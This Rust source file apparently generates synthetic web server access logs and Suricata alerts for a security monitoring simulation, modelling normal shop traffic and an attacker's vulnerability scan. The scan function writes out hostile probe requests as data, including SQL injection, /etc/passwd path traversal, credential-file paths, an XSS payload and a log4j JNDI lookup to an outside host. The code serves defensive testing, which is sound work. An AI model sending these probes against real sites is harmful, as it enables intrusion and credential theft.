//! What the web server writes into its access log (combined format).

use fastrand::Rng;
use vigie_model::Timestamp;

use super::super::world::one_of;
use super::{Door, Script, seconds};

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

/// Customers look at the shop.
pub(super) fn normal_day(script: &mut Script, rng: &mut Rng) {
    for _ in 0..1_700 {
        let time = script.moment(rng);
        let client = format!("192.0.2.{}", rng.u8(70..));
        let (path, status) = match rng.u8(..20) {
            0 => ("/favicon.ico".to_owned(), 404),
            1 => (format!("/cart?id={}", rng.u16(1..)), 302),
            2..=4 => ("/".to_owned(), 200),
            5..=8 => (format!("/static/app.{:x}.js", rng.u16(..)), 304),
            9..=10 => (format!("/search?q={}", one_of(rng, &["blue+shirt", "lamp", "garden+chair", "mug"])), 200),
            _ => (format!("/product/{}", rng.u16(1..900)), 200),
        };
        access(script, time, &client, "GET", &path, status, rng.u32(300..40_000), BROWSER);
    }
}

/// The attacker walks over the site with a scanner. Returns when it is done.
pub(super) fn scan(script: &mut Script, rng: &mut Rng, start: Timestamp) -> Timestamp {
    let attacker = script.world.attacker.to_string();
    script.chapter(start, format!("{attacker} scans the web site for holes"));
    let agent = one_of(
        rng,
        &["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "sqlmap/1.8.4#stable (https://sqlmap.org)"],
    );
    let probes = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/admin/login",
        "/backup.zip",
        "/server-status",
        "/actuator/env",
        "/cgi-bin/test.cgi",
        "/config.php.bak",
        "/.aws/credentials",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/product/1?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        "/product/7?id=7%27%20OR%20%271%27=%271",
        "/download?file=../../../../etc/passwd",
        "/static/..%2f..%2f..%2fetc%2fpasswd",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?x=${jndi:ldap://203.0.113.200:1389/a}",
    ];
    let mut order: Vec<&str> = probes.to_vec();
    rng.shuffle(&mut order);
    let mut time = start;
    for path in order {
        access(script, time, &attacker, "GET", path, 404, rng.u32(150..600), agent);
        time = time.plus(seconds(0.3 + rng.f64() * 0.5));
    }
    for number in 0..rng.u32(45..70) {
        access(script, time, &attacker, "GET", &format!("/old/{number:03}.bak"), 404, 162, agent);
        time = time.plus(seconds(0.1 + rng.f64() * 0.2));
    }
    suricata_saw_it(script, rng, start);
    time
}

/// Suricata watches the same wire.
fn suricata_saw_it(script: &mut Script, rng: &mut Rng, start: Timestamp) {
    let signatures = [
        (2_002_677, "ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", 1),
        (2_006_446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1),
        (
            2_034_647,
            "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
            "Attempted Administrator Privilege Gain",
            1,
        ),
        (2_009_362, "ET WEB_SERVER /etc/passwd Detected in URI", "Attempted Information Leak", 2),
    ];
    for (index, (id, signature, category, severity)) in signatures.into_iter().enumerate() {
        let time = start.plus(seconds(2.0 + index as f64 * 3.0 + rng.f64()));
        super::network::eve_alert(script, rng, time, 80, (id, signature, category, severity));
    }
}

#[expect(clippy::too_many_arguments, reason = "one line of an access log has these parts")]
fn access(
    script: &mut Script,
    time: Timestamp,
    client: &str,
    method: &str,
    path: &str,
    status: u16,
    bytes: u32,
    agent: &str,
) {
    let stamp = time.to_jiff().strftime("%d/%b/%Y:%H:%M:%S +0000");
    let line = format!("{client} - - [{stamp}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"");
    script.beat(time, Door::AccessLog, line);
}
